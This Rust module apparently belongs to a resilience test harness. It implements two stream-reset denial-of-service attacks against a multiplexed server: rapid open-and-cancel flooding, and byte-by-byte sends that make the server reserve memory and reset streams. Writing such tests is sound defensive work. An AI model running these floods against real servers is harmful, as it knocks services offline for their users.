//! A1 and A2: streams reset by this side or by the server.

use super::Attack;
use crate::attack::peer::Peer;
use crate::attack::wire::CANCEL;

/// Opens and cancels, as fast as the server has places for streams: more would end the session at once.
pub(super) struct Rapid;

impl Attack for Rapid {
    fn step(&mut self, peer: &mut Peer) {
        if let Some(stream) = peer.open(0, b"rapid reset") {
            peer.raw(CANCEL, 0, stream, &[0; 4]);
            peer.forget(stream);
        }
    }
}

/// The announced total of a message in crumbs: more than a window, so that it is given memory.
const TOTAL: u32 = 128 * 1024;

/// Sends a message byte by byte until the server resets its stream, then the next one.
#[derive(Default)]
pub(super) struct MadeYou {
    stream: Option<u32>,
}

impl Attack for MadeYou {
    fn step(&mut self, peer: &mut Peer) {
        match self.stream.filter(|stream| peer.is_open(*stream)) {
            Some(stream) => drop(peer.data(stream, 0, b"x")),
            None => {
                // The server has reset the last stream; end this side of it too.
                if let Some(ended) = self.stream.take() {
                    peer.raw(CANCEL, 0, ended, &[0; 4]);
                }
                self.stream = peer.open(0, b"made you reset");
                if let Some(stream) = self.stream {
                    let first = [&TOTAL.to_le_bytes()[..], b"x"].concat();
                    peer.data(stream, 0, &first);
                }
            }
        }
    }
}
